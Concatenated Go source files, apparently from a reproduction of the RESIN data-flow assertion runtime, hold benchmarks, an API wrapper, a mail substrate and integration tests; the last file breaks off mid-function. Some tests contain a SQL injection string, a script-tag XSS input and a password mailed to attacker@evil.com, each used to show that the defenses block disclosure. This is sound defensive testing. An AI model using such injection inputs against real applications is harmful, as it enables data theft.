func BenchmarkAblation_SQLPolicyColumns(b *testing.B) {
	for _, ncols := range []int{2, 5, 10, 20} {
		b.Run(fmt.Sprintf("cols=%d", ncols), func(b *testing.B) {
			rt := core.NewRuntime()
			db := sqldb.Open(rt)
			cols := make([]string, ncols)
			names := make([]string, ncols)
			for i := range cols {
				cols[i] = fmt.Sprintf("c%d TEXT", i)
				names[i] = fmt.Sprintf("c%d", i)
			}
			db.MustExec("CREATE TABLE t (" + strings.Join(cols, ", ") + ")")
			p := &ablationPolicy{ID: 7}
			var qb core.Builder
			qb.AppendRaw("INSERT INTO t (" + strings.Join(names, ", ") + ") VALUES (")
			for i := 0; i < ncols; i++ {
				if i > 0 {
					qb.AppendRaw(", ")
				}
				qb.AppendRaw("'")
				qb.Append(core.NewStringPolicy("v", p))
				qb.AppendRaw("'")
			}
			qb.AppendRaw(")")
			q := qb.String()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if _, err := db.Query(q); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkAblation_MergeStrategies compares the default union merge with
// a custom Merger callback (§3.4.2).
func BenchmarkAblation_MergeStrategies(b *testing.B) {
	b.Run("default-union", func(b *testing.B) {
		x := core.NewIntPolicy(1, &ablationPolicy{ID: 1})
		y := core.NewIntPolicy(2, &ablationPolicy{ID: 2})
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if _, err := x.Add(y); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("custom-merger", func(b *testing.B) {
		x := core.NewIntPolicy(1, &mergerPolicy{})
		y := core.NewIntPolicy(2, &mergerPolicy{})
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if _, err := x.Add(y); err != nil {
				b.Fatal(err)
			}
		}
	})
}

type mergerPolicy struct{}

func (p *mergerPolicy) ExportCheck(ctx *core.Context) error { return nil }
func (p *mergerPolicy) Merge(other *core.PolicySet) ([]core.Policy, error) {
	if other.Any(func(q core.Policy) bool { _, ok := q.(*mergerPolicy); return ok }) {
		return []core.Policy{p}, nil
	}
	return nil, nil
}

// BenchmarkAblation_TaintedStructureCheck measures the strategy-2 scan on
// a realistic query with and without tainted literals.
func BenchmarkAblation_TaintedStructureCheck(b *testing.B) {
	rt := core.NewRuntime()
	db := sqldb.Open(rt)
	db.Filter().RejectTaintedStructure(true)
	db.MustExec("CREATE TABLE t (a TEXT, n INT)")
	db.MustExec("INSERT INTO t (a, n) VALUES ('x', 1)")
	p := &ablationPolicy{ID: 9}
	clean := core.NewString("SELECT a, n FROM t WHERE a = 'x' ORDER BY n LIMIT 1")
	tainted := core.Concat(
		core.NewString("SELECT a, n FROM t WHERE a = '"),
		core.NewStringPolicy("x", p),
		core.NewString("' ORDER BY n LIMIT 1"),
	)
	b.Run("untainted-query", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			if _, err := db.Query(clean); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("tainted-literal-query", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			if _, err := db.Query(tainted); err != nil {
				b.Fatal(err)
			}
		}
	})
}

// ---- SQL durability: the write-ahead log ----

// BenchmarkSQLWALAppend measures the durable-insert path (docs/SQL.md
// §8): "memory" is the no-WAL baseline, "sync" fsyncs every mutation
// before acknowledging it (the default durability contract), and
// "group64" batches up to 64 mutations per fsync — the group-commit
// knob the issue's durability/throughput trade rides on.
func BenchmarkSQLWALAppend(b *testing.B) {
	run := func(b *testing.B, path string, group int) {
		rt := core.NewRuntime()
		db, err := sqldb.OpenDB(rt, path)
		if err != nil {
			b.Fatal(err)
		}
		defer db.Close()
		db.MustExec("CREATE TABLE t (id INT, val TEXT)")
		if group > 1 {
			db.SetWALGroupCommit(group)
		}
		ins, err := db.PrepareRaw("INSERT INTO t (id, val) VALUES (?, ?)")
		if err != nil {
			b.Fatal(err)
		}
		payload := core.NewStringPolicy("payload-bytes", &ablationPolicy{ID: 7})
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if _, err := ins.Exec(i, payload); err != nil {
				b.Fatal(err)
			}
		}
	}
	b.Run("memory", func(b *testing.B) { run(b, "", 0) })
	b.Run("sync", func(b *testing.B) { run(b, b.TempDir()+"/sync.wal", 0) })
	b.Run("group64", func(b *testing.B) { run(b, b.TempDir()+"/group.wal", 64) })
}

// BenchmarkSQLWALReplay measures recovery: reopening a database whose
// log holds 1000 annotated inserts ("history"), against the same state
// after compaction ("compacted") — the snapshot's batched INSERTs make
// replay state-shaped instead of history-shaped.
func BenchmarkSQLWALReplay(b *testing.B) {
	build := func(b *testing.B, compact bool) string {
		path := b.TempDir() + "/replay.wal"
		rt := core.NewRuntime()
		db, err := sqldb.OpenDB(rt, path)
		if err != nil {
			b.Fatal(err)
		}
		db.MustExec("CREATE TABLE t (id INT, val TEXT)")
		db.MustExec("CREATE INDEX ON t (id)")
		db.SetWALGroupCommit(256)
		payload := core.NewStringPolicy("payload-bytes", &ablationPolicy{ID: 7})
		ins, err := db.PrepareRaw("INSERT INTO t (id, val) VALUES (?, ?)")
		if err != nil {
			b.Fatal(err)
		}
		for i := 0; i < 1000; i++ {
			if _, err := ins.Exec(i, payload); err != nil {
				b.Fatal(err)
			}
		}
		if compact {
			if err := db.Compact(); err != nil {
				b.Fatal(err)
			}
		}
		if err := db.Close(); err != nil {
			b.Fatal(err)
		}
		return path
	}
	for _, mode := range []struct {
		name    string
		compact bool
	}{{"history", false}, {"compacted", true}} {
		b.Run(mode.name, func(b *testing.B) {
			path := build(b, mode.compact)
			rt := core.NewRuntime()
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				db, err := sqldb.OpenDB(rt, path)
				if err != nil {
					b.Fatal(err)
				}
				b.StopTimer()
				db.Close()
				b.StartTimer()
			}
		})
	}
}

// BenchmarkLineageOverhead measures the flow monitor's cost on the hot
// string-and-boundary path, recording off vs on (docs/LINEAGE.md §2).
// The "off" variant must match the pre-monitor profile — the gate is a
// single atomic load — and the "on" variant prices full provenance
// recording for a concat + serialize + decode round trip.
func BenchmarkLineageOverhead(b *testing.B) {
	run := func(b *testing.B) {
		left := core.NewStringPolicy("user-controlled ", &ablationPolicy{ID: 91})
		right := core.NewStringPolicy("suffix", &ablationPolicy{ID: 92})
		ann, err := core.EncodeSpans(left)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			out := core.Concat(left, right)
			if out.Len() == 0 {
				b.Fatal("empty concat")
			}
			if _, err := core.DecodeSpans("user-controlled ", ann); err != nil {
				b.Fatal(err)
			}
		}
	}
	b.Run("off", func(b *testing.B) {
		lineage.Disable()
		lineage.Reset()
		run(b)
	})
	b.Run("on", func(b *testing.B) {
		lineage.Reset()
		lineage.Enable()
		defer func() {
			lineage.Disable()
			lineage.Reset()
		}()
		run(b)
	})
}
