package resin_test

// Integration tests across substrates: the layered-defense stories the
// paper tells in §5.3 and §3.4.1, exercised end to end through the public
// API and the substrates together.

import (
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"

	"resin"
	"resin/internal/apps/forum"
	"resin/internal/core"
	"resin/internal/httpd"
	"resin/internal/sanitize"
	"resin/internal/sqldb"
	"resin/internal/vfs"
	"resin/internal/whois"
)

// integrationPasswordPolicy mimics the HotCRP password policy.
type integrationPasswordPolicy struct {
	Email string `json:"email"`
}

func (p *integrationPasswordPolicy) ExportCheck(ctx *resin.Context) error {
	if ctx.Type() == resin.KindEmail {
		if to, _ := ctx.GetString("email"); to == p.Email {
			return nil
		}
	}
	return errors.New("password disclosure")
}

func init() {
	resin.RegisterPolicyClass("integration.PasswordPolicy", &integrationPasswordPolicy{})
}

// TestLayeredDefenses is the closing example of §5.3: "even if an
// application has a SQL injection vulnerability, and an adversary manages
// to execute the query SELECT user, password FROM userdb, the policy
// object for each password will still be de-serialized from the database,
// and will prevent password disclosure."
func TestLayeredDefenses(t *testing.T) {
	rt := resin.NewRuntime()
	db := sqldb.Open(rt)
	db.MustExec("CREATE TABLE userdb (user TEXT, password TEXT)")

	// Store a password with its policy (persisted in the policy column).
	pw := rt.PolicyAdd(resin.NewString("s3cret!"), &integrationPasswordPolicy{Email: "victim@x"})
	ins := resin.Concat(
		resin.NewString("INSERT INTO userdb (user, password) VALUES ('victim', "),
		sanitize.SQLQuote(pw), resin.NewString(")"))
	if _, err := db.Query(ins); err != nil {
		t.Fatal(err)
	}

	// Layer 1 would be the injection assertion; assume the app forgot it
	// (no strategies enabled) and the adversary reshapes a query.
	evil := sanitize.Taint(resin.NewString("x' OR user = 'victim"), "form")
	q := resin.Concat(resin.NewString("SELECT user, password FROM userdb WHERE user = '"),
		evil, resin.NewString("'"))
	res, err := db.Query(q)
	if err != nil {
		t.Fatalf("the injection itself succeeds (that's the point): %v", err)
	}
	if res.Len() != 1 {
		t.Fatalf("attack rows = %d", res.Len())
	}
	leaked := res.Get(0, "password").Str

	// Layer 2: the password's own policy came back from the database and
	// still stops the disclosure at the HTTP boundary.
	out := resin.NewChannel(rt, resin.KindHTTP, resin.ExportCheckFilter{})
	err = out.Write(leaked)
	ae, ok := resin.IsAssertionError(err)
	if !ok {
		t.Fatalf("leak not blocked: %v", err)
	}
	if _, isPw := ae.Policy.(*integrationPasswordPolicy); !isPw {
		t.Errorf("blocked by %T, want the password policy", ae.Policy)
	}
	// The username column flows freely — character-level separation.
	if err := out.Write(res.Get(0, "user").Str); err != nil {
		t.Errorf("username should be exportable: %v", err)
	}
}

// TestPolicyChainAcrossAllSubstrates walks one secret through every
// storage substrate in sequence: DB → file → static web serving.
func TestPolicyChainAcrossAllSubstrates(t *testing.T) {
	rt := resin.NewRuntime()
	db := sqldb.Open(rt)
	fs := vfs.New(rt)
	fs.MkdirAll("/www", nil)

	db.MustExec("CREATE TABLE cfg (k TEXT, v TEXT)")
	secret := rt.PolicyAdd(resin.NewString("api-key-123"), &integrationPasswordPolicy{Email: "ops@x"})
	if _, err := db.Query(resin.Concat(
		resin.NewString("INSERT INTO cfg (k, v) VALUES ('key', "),
		sanitize.SQLQuote(secret), resin.NewString(")"))); err != nil {
		t.Fatal(err)
	}

	// A backup job copies the DB value into a file in the web root.
	res, err := db.QueryRaw("SELECT v FROM cfg WHERE k = 'key'")
	if err != nil {
		t.Fatal(err)
	}
	if err := fs.WriteFile("/www/backup.txt", res.Get(0, "v").Str, nil); err != nil {
		t.Fatal(err)
	}

	// The web server refuses to serve the backup: the policy survived
	// DB → runtime → file → runtime → HTTP.
	srv := httpd.NewServer(rt)
	srv.ServeStatic(fs, "/www")
	resp, err := srv.Do("GET", "/backup.txt", nil, nil)
	if err == nil {
		t.Fatal("backup file must be blocked")
	}
	if strings.Contains(resp.RawBody(), "api-key") {
		t.Fatal("secret leaked")
	}
}

// TestForumUnderConcurrentLoad hammers one forum instance from parallel
// sessions: posts, reads, searches, and attacks all at once. Assertions
// must hold and no data race may occur (run with -race).
func TestForumUnderConcurrentLoad(t *testing.T) {
	ws := whois.NewServer()
	app := forum.New(core.NewRuntime(), ws, true)
	var wg sync.WaitGroup
	errCh := make(chan error, 64)
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(n int) {
			defer wg.Done()
			user := fmt.Sprintf("user%d", n)
			sess := app.Server.NewSession(user)
			for j := 0; j < 20; j++ {
				if _, err := app.Server.Do("GET", "/post", map[string]string{
					"forum": "1", "subject": fmt.Sprintf("s-%d-%d", n, j), "body": "hello",
				}, sess); err != nil {
					errCh <- fmt.Errorf("post: %w", err)
					return
				}
				if _, err := app.Server.Do("GET", "/topic", map[string]string{"forum": "1"}, sess); err != nil {
					errCh <- fmt.Errorf("topic: %w", err)
					return
				}
				// Attack attempts interleaved: must always be blocked.
				resp, err := app.Server.Do("GET", "/printview", map[string]string{"msg": "2"}, sess)
				if err == nil || strings.Contains(resp.RawBody(), "root123") {
					errCh <- errors.New("staff secret leaked under concurrency")
					return
				}
			}
		}(i)
	}
	wg.Wait()
	close(errCh)
	for err := range errCh {
		t.Error(err)
	}
}

// TestAssertionAdditionIsIncremental verifies the paper's deployment
// claim: assertions can be added one at a time to a running system
// without disturbing existing ones.
func TestAssertionAdditionIsIncremental(t *testing.T) {
	rt := resin.NewRuntime()
	srv := httpd.NewServer(rt)
	srv.Handle("/page", func(req *httpd.Request, resp *httpd.Response) error {
		return resp.Write(resin.Concat(resin.NewString("<p>"), req.Param("q"), resin.NewString("</p>")))
	})

	// Before the XSS assertion: the vulnerable handler leaks.
	resp, err := srv.Do("GET", "/page", map[string]string{"q": "<script>x</script>"}, nil)
	if err != nil || !strings.Contains(resp.RawBody(), "<script>") {
		t.Fatalf("baseline: %v %q", err, resp.RawBody())
	}

	// Add the assertion at runtime; no handler changes.
	srv.AddBodyFilter(&httpd.XSSFilter{RejectTaintedStructure: true})
	if _, err := srv.Do("GET", "/page", map[string]string{"q": "<script>x</script>"}, nil); err == nil {
		t.Fatal("assertion must now block")
	}
	// Benign traffic unaffected.
	resp, err = srv.Do("GET", "/page", map[string]string{"q": "plain text"}, nil)
	if err != nil || resp.RawBody() != "<p>plain text</p>" {
		t.Errorf("benign: %v %q", err, resp.RawBody())
	}

	// Add a second, independent assertion (response splitting is already
	// built in; add a custom one) — the first keeps working.
	srv.AddBodyFilter(resin.WriteFilterFunc(func(ch *resin.Channel, d resin.String, off int64) (resin.String, error) {
		if d.Contains("forbidden-word") {
			return d, errors.New("editorial policy")
		}
		return d, nil
	}))
	if _, err := srv.Do("GET", "/page", map[string]string{"q": "forbidden-word"}, nil); err == nil {
		t.Fatal("second assertion must fire")
	}
	if _, err := srv.Do("GET", "/page", map[string]string{"q": "<img src=x>"}, nil); err == nil {
		t.Fatal("first assertion must still fire")
	}
}
