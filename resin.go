package resin

import "resin/internal/core"

// The public API re-exports the core runtime types under the package name
// applications import. The paper's Table 3 API maps as follows:
//
//	policy_add(data, policy)    → Runtime.PolicyAdd / String.WithPolicy
//	policy_remove(data, policy) → Runtime.PolicyRemove / String.WithoutPolicy
//	policy_get(data)            → Runtime.PolicyGet / String.Policies
//	policy::export_check(ctx)   → Policy.ExportCheck
//	policy::merge(set)          → Merger.Merge
//	filter::filter_read(...)    → ReadFilter.FilterRead
//	filter::filter_write(...)   → WriteFilter.FilterWrite
//	filter::filter_func(...)    → FuncFilter.FilterFunc

type (
	// Policy is a policy object: assertion code plus metadata attached to
	// data (§3.3).
	Policy = core.Policy
	// Merger is a Policy with custom merge semantics (§3.4.2).
	Merger = core.Merger
	// ReadChecker is a Policy checked when data enters the runtime.
	ReadChecker = core.ReadChecker
	// PolicySet is an immutable set of policy objects.
	PolicySet = core.PolicySet
	// String is a tracked string with character-level policy spans (§3.4).
	String = core.String
	// Int is a tracked integer whose arithmetic merges policies.
	Int = core.Int
	// Builder incrementally assembles a tracked String.
	Builder = core.Builder
	// Context is the context hash table describing a boundary (§3.2.1).
	Context = core.Context
	// Channel is a data-flow boundary with a filter chain (§3.2).
	Channel = core.Channel
	// Runtime owns the default boundary and the tracking switch.
	Runtime = core.Runtime
	// Filter is any filter object; see ReadFilter, WriteFilter, FuncFilter.
	Filter = core.Filter
	// ReadFilter interposes on data entering a boundary.
	ReadFilter = core.ReadFilter
	// WriteFilter interposes on data leaving a boundary.
	WriteFilter = core.WriteFilter
	// FuncFilter interposes on a function call.
	FuncFilter = core.FuncFilter
	// AssertionError reports a failed data-flow assertion.
	AssertionError = core.AssertionError
)

// Boundary kinds of the default filter objects (§3.2.1).
const (
	KindSocket = core.KindSocket
	KindPipe   = core.KindPipe
	KindFile   = core.KindFile
	KindHTTP   = core.KindHTTP
	KindEmail  = core.KindEmail
	KindSQL    = core.KindSQL
	KindCode   = core.KindCode
)

// NewRuntime returns a runtime with data tracking enabled.
func NewRuntime() *Runtime { return core.NewRuntime() }

// NewUntrackedRuntime returns a runtime with tracking disabled — the
// "unmodified interpreter" baseline used in the paper's evaluation.
func NewUntrackedRuntime() *Runtime { return core.NewUntrackedRuntime() }

// NewString wraps a raw Go string with no policies attached.
func NewString(s string) String { return core.NewString(s) }

// NewStringPolicy wraps a raw Go string with policies on every byte.
func NewStringPolicy(s string, ps ...Policy) String { return core.NewStringPolicy(s, ps...) }

// NewInt wraps a plain integer with no policies.
func NewInt(v int64) Int { return core.NewInt(v) }

// NewIntPolicy wraps an integer with policies attached.
func NewIntPolicy(v int64, ps ...Policy) Int { return core.NewIntPolicy(v, ps...) }

// NewPolicySet builds a set from the given policies.
func NewPolicySet(ps ...Policy) *PolicySet { return core.NewPolicySet(ps...) }

// InternStats is a snapshot of the policy-set interning counters.
type InternStats = core.InternStats

// ReadInternStats returns the interning machinery's counters — table
// size, hit rates, memoized unions — for monitoring and benchmarks.
// Long-lived policy sets can be canonicalized with PolicySet.Intern;
// see docs/ARCHITECTURE.md.
func ReadInternStats() InternStats { return core.ReadInternStats() }

// NewTaintReadFilter builds a read filter whose policy set is built
// once and interned — the efficient way for input boundaries to taint
// high volumes of data with the same policies.
func NewTaintReadFilter(ps ...Policy) *TaintReadFilter { return core.NewTaintReadFilter(ps...) }

// Concat concatenates tracked strings with character-level propagation.
func Concat(parts ...String) String { return core.Concat(parts...) }

// Join concatenates elems with sep between each pair.
func Join(elems []String, sep String) String { return core.Join(elems, sep) }

// Format is the tracked analogue of fmt.Sprintf (verbs %s %v %d %q %%).
func Format(format string, args ...any) String { return core.Format(format, args...) }

// Checksum computes an additive checksum, merging all byte policies.
func Checksum(t String) (Int, error) { return core.Checksum(t) }

// MergePolicies merges two policy sets per §3.4.2.
func MergePolicies(a, b *PolicySet) (*PolicySet, error) { return core.MergePolicies(a, b) }

// NewContext builds a context for a boundary of the given kind.
func NewContext(kind string) *Context { return core.NewContext(kind) }

// NewChannel creates a boundary with an explicit filter chain.
func NewChannel(rt *Runtime, kind string, filters ...Filter) *Channel {
	return core.NewChannel(rt, kind, filters...)
}

// RegisterPolicyClass registers a policy class for persistent
// serialization (§3.4.1). The prototype must be a pointer to a struct.
func RegisterPolicyClass(name string, prototype Policy) {
	core.RegisterPolicyClass(name, prototype)
}

// RegisterFilterClass registers a filter class for persistent filter
// objects stored in file extended attributes (§3.2.3).
func RegisterFilterClass(name string, prototype Filter) {
	core.RegisterFilterClass(name, prototype)
}

// EncodePolicy serializes a policy object (class name + data fields).
func EncodePolicy(p Policy) ([]byte, error) { return core.EncodePolicy(p) }

// DecodePolicy re-instantiates a serialized policy object.
func DecodePolicy(data []byte) (Policy, error) { return core.DecodePolicy(data) }

// EncodeSpans serializes a tracked string's policy annotation.
func EncodeSpans(t String) ([]byte, error) { return core.EncodeSpans(t) }

// DecodeSpans attaches a serialized policy annotation to raw data.
func DecodeSpans(raw string, annotation []byte) (String, error) {
	return core.DecodeSpans(raw, annotation)
}

// IsAssertionError reports whether err is or wraps an *AssertionError.
func IsAssertionError(err error) (*AssertionError, bool) { return core.IsAssertionError(err) }

// Default and utility filter objects.
type (
	// ExportCheckFilter is the default output filter (Figure 3).
	ExportCheckFilter = core.ExportCheckFilter
	// ReadCheckFilter invokes ReadCheck on incoming data's policies.
	ReadCheckFilter = core.ReadCheckFilter
	// TaintReadFilter taints all incoming data with fixed policies.
	TaintReadFilter = core.TaintReadFilter
	// StripPolicyFilter removes matching policies from in-transit data.
	StripPolicyFilter = core.StripPolicyFilter
	// RejectSequenceFilter vetoes forbidden byte sequences (HTTP response
	// splitting defense).
	RejectSequenceFilter = core.RejectSequenceFilter
	// WriteFilterFunc adapts a function to WriteFilter.
	WriteFilterFunc = core.WriteFilterFunc
	// ReadFilterFunc adapts a function to ReadFilter.
	ReadFilterFunc = core.ReadFilterFunc
	// FuncFilterFunc adapts a function to FuncFilter.
	FuncFilterFunc = core.FuncFilterFunc
)
