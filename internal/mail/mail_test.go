package mail

import (
	"errors"
	"testing"

	"resin/internal/core"
)

// recipientPolicy allows export only to one email address — the shape of
// the HotCRP password policy.
type recipientPolicy struct {
	Email string `json:"email"`
}

func (p *recipientPolicy) ExportCheck(ctx *core.Context) error {
	if ctx.Type() == core.KindEmail {
		if to, _ := ctx.GetString("email"); to == p.Email {
			return nil
		}
	}
	return errors.New("unauthorized disclosure")
}

func TestSendDeliversAndRecords(t *testing.T) {
	m := NewMailer(core.NewRuntime())
	if err := m.Send("u@foo.com", "hi", core.NewString("hello")); err != nil {
		t.Fatal(err)
	}
	sent := m.Sent()
	if len(sent) != 1 || sent[0].To != "u@foo.com" || sent[0].Subject != "hi" || sent[0].Body.Raw() != "hello" {
		t.Errorf("sent = %+v", sent)
	}
	m.Reset()
	if len(m.Sent()) != 0 {
		t.Error("reset failed")
	}
}

func TestRecipientContextEnforced(t *testing.T) {
	m := NewMailer(core.NewRuntime())
	pw := core.NewStringPolicy("hunter2", &recipientPolicy{Email: "victim@foo.com"})
	body := core.Concat(core.NewString("Your password is: "), pw)

	// To the owner: delivered.
	if err := m.Send("victim@foo.com", "reminder", body); err != nil {
		t.Fatalf("owner delivery: %v", err)
	}
	// To anyone else: vetoed, and nothing recorded.
	err := m.Send("attacker@evil.com", "reminder", body)
	if err == nil {
		t.Fatal("mis-addressed password must be vetoed")
	}
	if _, ok := core.IsAssertionError(err); !ok {
		t.Errorf("want AssertionError, got %v", err)
	}
	if len(m.Sent()) != 1 {
		t.Errorf("sent = %d, want only the legitimate one", len(m.Sent()))
	}
}

func TestSubjectAlsoCrossesBoundary(t *testing.T) {
	m := NewMailer(core.NewRuntime())
	// Policy data leaked via the subject line is caught too: Send pushes
	// the subject through the same channel. We simulate by sending the
	// password as subject.
	pw := core.NewStringPolicy("hunter2", &recipientPolicy{Email: "v@x"})
	ch := m.Channel("other@x")
	if err := ch.Write(pw); err == nil {
		t.Fatal("subject-line disclosure must be vetoed")
	}
}

func TestExtraFilters(t *testing.T) {
	m := NewMailer(core.NewRuntime())
	m.AddFilter(core.WriteFilterFunc(func(ch *core.Channel, d core.String, off int64) (core.String, error) {
		if d.Contains("forbidden") {
			return d, errors.New("blocked word")
		}
		return d, nil
	}))
	if err := m.Send("a@b", "s", core.NewString("forbidden content")); err == nil {
		t.Fatal("extra filter must run")
	}
	if err := m.Send("a@b", "s", core.NewString("fine")); err != nil {
		t.Fatal(err)
	}
}

func TestUntrackedMailerSkipsChecks(t *testing.T) {
	m := NewMailer(core.NewUntrackedRuntime())
	pw := core.NewString("hunter2").WithPolicy(&recipientPolicy{Email: "v@x"})
	if err := m.Send("attacker@evil.com", "s", pw); err != nil {
		t.Fatalf("untracked mailer must not check: %v", err)
	}
}
