// Package mail is the email substrate of the RESIN reproduction: a mailer
// whose outgoing messages cross a sendmail-pipe boundary annotated with
// the recipient address (Figure 1 of the paper: "RESIN annotates each
// filter object connected to an outgoing email channel with the email's
// recipient address").
//
// The HotCRP password assertion relies on exactly this context: the
// PasswordPolicy's export check allows the flow only when the channel's
// type is "email" and its recipient matches the account holder.
package mail

import (
	"sync"

	"resin/internal/core"
)

// Email is one delivered message.
type Email struct {
	To      string
	Subject string
	Body    core.String
}

// Mailer delivers email through RESIN email boundaries. Deliveries are
// captured in memory for inspection by tests and harnesses.
type Mailer struct {
	rt *core.Runtime

	mu   sync.Mutex
	sent []Email
	// extraFilters are appended to every outgoing email channel.
	extraFilters []core.Filter
}

// NewMailer returns a mailer bound to rt.
func NewMailer(rt *core.Runtime) *Mailer {
	return &Mailer{rt: rt}
}

// AddFilter appends a filter to every future outgoing email channel.
func (m *Mailer) AddFilter(f core.Filter) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.extraFilters = append(m.extraFilters, f)
}

// Channel builds the boundary channel for a message to the given
// recipient: kind "email", context {"email": to}, default export-check
// filter plus any extra filters.
func (m *Mailer) Channel(to string) *core.Channel {
	m.mu.Lock()
	extra := append([]core.Filter(nil), m.extraFilters...)
	m.mu.Unlock()
	filters := append([]core.Filter{core.ExportCheckFilter{}}, extra...)
	ch := core.NewChannel(m.rt, core.KindEmail, filters...)
	ch.Context().Set("email", to)
	return ch
}

// Send delivers a message: subject and body cross the email boundary for
// the recipient; if any assertion vetoes the flow, nothing is delivered
// and the error is returned.
func (m *Mailer) Send(to, subject string, body core.String) error {
	ch := m.Channel(to)
	if err := ch.Write(core.NewString(subject)); err != nil {
		return err
	}
	if err := ch.Write(body); err != nil {
		return err
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	m.sent = append(m.sent, Email{To: to, Subject: subject, Body: body})
	return nil
}

// Sent returns a copy of the delivered messages.
func (m *Mailer) Sent() []Email {
	m.mu.Lock()
	defer m.mu.Unlock()
	return append([]Email(nil), m.sent...)
}

// Reset clears the delivery log.
func (m *Mailer) Reset() {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.sent = nil
}
