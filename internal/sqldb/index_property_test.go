package sqldb

import (
	"fmt"
	"math/rand"
	"reflect"
	"strings"
	"sync"
	"testing"

	"resin/internal/core"
	"resin/internal/sanitize"
)

// The scan-vs-index differential harness: the same workload executes
// against two databases — one that declares (and churns) ordered
// indexes, and a forced-scan twin that never declares any — and every
// SELECT must return byte-identical rows, in identical order, with
// identical decoded policy sets. This is what turns docs/SQL.md §4's
// "index use can never change results" from a sentence into a tested
// invariant. FuzzPredicateAnalyzer reuses requireSameResults over
// adversarial WHERE/ORDER BY text.

// requireSameResults fails the test when two results differ in columns,
// row count, row order, cell bytes, or serialized policy annotations.
func requireSameResults(t testing.TB, q string, indexed, scan *Result) {
	t.Helper()
	if len(indexed.Columns) != len(scan.Columns) {
		t.Fatalf("%s: column count indexed=%d scan=%d", q, len(indexed.Columns), len(scan.Columns))
	}
	for i := range indexed.Columns {
		if indexed.Columns[i] != scan.Columns[i] {
			t.Fatalf("%s: column %d indexed=%q scan=%q", q, i, indexed.Columns[i], scan.Columns[i])
		}
	}
	if indexed.Len() != scan.Len() {
		t.Fatalf("%s: indexed %d rows, scan %d rows", q, indexed.Len(), scan.Len())
	}
	for i := range indexed.Rows {
		for j := range indexed.Rows[i] {
			a, b := indexed.Rows[i][j], scan.Rows[i][j]
			if a.Null != b.Null || a.IsInt != b.IsInt {
				t.Fatalf("%s: row %d col %d shape differs (null %v/%v, int %v/%v)",
					q, i, j, a.Null, b.Null, a.IsInt, b.IsInt)
			}
			at, bt := a.Text(), b.Text()
			if at.Raw() != bt.Raw() {
				t.Fatalf("%s: row %d col %d: indexed %q, scan %q", q, i, j, at.Raw(), bt.Raw())
			}
			aa, err := core.EncodeSpans(at)
			if err != nil {
				t.Fatalf("%s: encode indexed policies: %v", q, err)
			}
			ba, err := core.EncodeSpans(bt)
			if err != nil {
				t.Fatalf("%s: encode scan policies: %v", q, err)
			}
			if string(aa) != string(ba) {
				t.Fatalf("%s: row %d col %d policy sets differ:\n  indexed %s\n  scan    %s", q, i, j, aa, ba)
			}
		}
	}
}

// diffSelect runs one SELECT against both databases, requires matching
// error behavior, and (on success) identical results.
func diffSelect(t testing.TB, indexed, scan *DB, q string) {
	t.Helper()
	a, aerr := indexed.QueryRaw(q)
	b, berr := scan.QueryRaw(q)
	if (aerr == nil) != (berr == nil) {
		t.Fatalf("%s: indexed err=%v, scan err=%v", q, aerr, berr)
	}
	if aerr != nil {
		if aerr.Error() != berr.Error() {
			t.Fatalf("%s: error text differs:\n  indexed %v\n  scan    %v", q, aerr, berr)
		}
		return
	}
	requireSameResults(t, q, a, b)
}

// diffWorkload drives both databases through identical DML (the tracked
// query text is shared, so taints match byte for byte); index DDL goes
// only to the indexed side.
type diffWorkload struct {
	t             testing.TB
	indexed, scan *DB
	rng           *rand.Rand
}

func (w *diffWorkload) exec(q core.String) {
	w.t.Helper()
	_, aerr := w.indexed.Query(q)
	_, berr := w.scan.Query(q)
	if (aerr == nil) != (berr == nil) {
		w.t.Fatalf("%s: indexed err=%v, scan err=%v", q.Raw(), aerr, berr)
	}
}

// randLiteral renders a random literal for column col of the workload
// table: ints (sometimes as quoted digit strings), prefixed words, and
// NULL all occur.
func (w *diffWorkload) randLiteral(col string) string {
	r := w.rng
	if r.Intn(12) == 0 {
		return "NULL"
	}
	switch col {
	case "id", "val":
		n := r.Intn(40) - 5
		if r.Intn(6) == 0 {
			return fmt.Sprintf("'%d'", n) // string literal against INT column
		}
		return fmt.Sprintf("%d", n)
	default:
		words := []string{"ant", "antler", "bee", "beetle", "cat", "", "zz", "ant%", "a_t"}
		return "'" + words[r.Intn(len(words))] + "'"
	}
}

// randPredicate builds a random WHERE expression of bounded depth over
// the workload table's columns.
func (w *diffWorkload) randPredicate(depth int) string {
	r := w.rng
	if depth <= 0 || r.Intn(3) > 0 {
		cols := []string{"id", "name", "val", "tag"}
		col := cols[r.Intn(len(cols))]
		ops := []string{"=", "!=", "<", "<=", ">", ">=", "LIKE"}
		op := ops[r.Intn(len(ops))]
		lit := w.randLiteral(col)
		if r.Intn(8) == 0 { // reversed operand order
			return fmt.Sprintf("%s %s %s", lit, op, col)
		}
		return fmt.Sprintf("%s %s %s", col, op, lit)
	}
	l, rr := w.randPredicate(depth-1), w.randPredicate(depth-1)
	switch r.Intn(4) {
	case 0:
		return fmt.Sprintf("(%s) OR (%s)", l, rr)
	case 1:
		return fmt.Sprintf("NOT (%s)", l)
	default: // AND twice as likely: that's the spine the analyzer mines
		return fmt.Sprintf("(%s) AND (%s)", l, rr)
	}
}

// randSelect builds a random SELECT mixing projections, predicates,
// ORDER BY ASC|DESC, and LIMIT.
func (w *diffWorkload) randSelect() string {
	r := w.rng
	proj := []string{"*", "id, name", "name, val, tag", "id, id, name"}[r.Intn(4)]
	q := "SELECT " + proj + " FROM w"
	if r.Intn(5) > 0 {
		q += " WHERE " + w.randPredicate(2)
	}
	if r.Intn(3) > 0 {
		q += " ORDER BY " + []string{"id", "name", "val", "tag"}[r.Intn(4)]
		if r.Intn(2) == 0 {
